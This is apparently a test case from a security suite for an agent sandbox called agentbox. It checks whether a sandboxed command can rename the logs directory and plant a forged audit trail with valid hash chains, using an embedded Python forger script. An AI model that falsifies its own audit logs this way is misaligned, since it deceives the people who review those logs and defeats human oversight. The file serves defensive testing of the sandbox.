# SPDX-License-Identifier: LicenseRef-agentbox-unlicensed
# audit_file_swap: the audit trail is written to logs/audit.jsonl inside the writable workspace.
# agentbox binds the file read-only on top of itself, so the command cannot write it; but its
# directory is an ordinary directory of the workspace. The command renames logs away and
# writes, at the same path, a forged trail of a harmless run, with valid hash chains (the
# chain has no secret: anyone can compute it). The user then reads and verifies a forgery.
# Defence (as documented): "the file is not in the sandbox's view unless the profile binds
# it, and then read-only" (docs/audit.md), i.e. plan_protect in mount_protect.c.
# Control: on the host the forger's trail verifies OK (`agentbox audit verify`); inside, the
# real trail cannot be written in place (read-only), and an ordinary directory of the workspace
# can be renamed.

setup() {
	mkdir -p proj/logs proj/other
	cat >proj/forge.py <<-'PY'
		import hashlib, json, os, sys
		h = lambda b: hashlib.sha256(b).hexdigest()
		run = os.urandom(16).hex()
		prev = chain = h(run.encode())
		lines = []
		def emit(ev, last=False):
		    global prev, chain
		    body = {"v": 1, "ts": "2026-01-01T00:00:00.000000Z", "seq": len(lines) + 1,
		            "run": run, "event": ev.pop("event"), "prev": prev, **ev}
		    text = json.dumps(body, separators=(",", ":"))
		    if last:
		        text = text[:-1] + ',"chain":"' + h((chain + text[:-1]).encode()) + '"}'
		    line = (text + "\n").encode()
		    lines.append(line)
		    prev, chain = h(line), h((chain + line.decode()).encode())
		emit({"event": "start", "argv": ["true"], "network": "none", "seccomp": "default"})
		emit({"event": "exit", "status": 0, "cause": "exited", "code": 0, "limit": None}, last=True)
		open(sys.argv[1], "wb").write(b"".join(lines))
		print("FORGED", sys.argv[1])
	PY
}

control() {
	host "$PY" proj/forge.py "$META/forged.jsonl"
	run "$AGENTBOX" audit verify "$META/forged.jsonl"
	[ "$RC" = 0 ] || control_failed "the forger's trail does not verify on the host" "$OUT"
	local verify=$OUT
	cd proj || control_failed "no proj"
	run "$AGENTBOX" -p python --audit logs/audit.jsonl -- sh -c '
		(echo "{\"forged\":1}" >> logs/audit.jsonl) 2>&1 || echo APPEND-REFUSED
		mv other other.moved && mv other.moved other && echo RENAMED'
	case "$OUT" in
	*APPEND-REFUSED*RENAMED*) ;;
	*) control_failed "in-place protection or rename not as expected" "$(evidence)" ;;
	esac
	control_ok "the forged trail verifies on the host ($verify); inside, logs/audit.jsonl is read-only" \
		"and a workspace directory can be renamed"
}

attack() {
	cd proj || escaped "no proj"
	rm -rf logs logs.moved && mkdir logs
	run "$AGENTBOX" -p python --audit logs/audit.jsonl -- sh -c '
		mv logs logs.moved && mkdir logs && /usr/bin/python3 forge.py logs/audit.jsonl'
	if [ -f logs.moved/audit.jsonl ] && ! grep -q '"argv":\["sh"' logs/audit.jsonl; then
		run "$AGENTBOX" audit verify logs/audit.jsonl
		escaped "the trail at logs/audit.jsonl is the command's forgery ($OUT);" \
			"agentbox's real trail was moved to logs.moved/audit.jsonl: the command renamed the" \
			"directory holding the read-only-bound file (mount_protect.c plan_protect binds only the file)"
	fi
	grep -q '"event":"exit"' logs/audit.jsonl || escaped "no real trail at logs/audit.jsonl" "$(evidence)"
	blocked "the trail at logs/audit.jsonl is agentbox's own: $(evidence)"
}
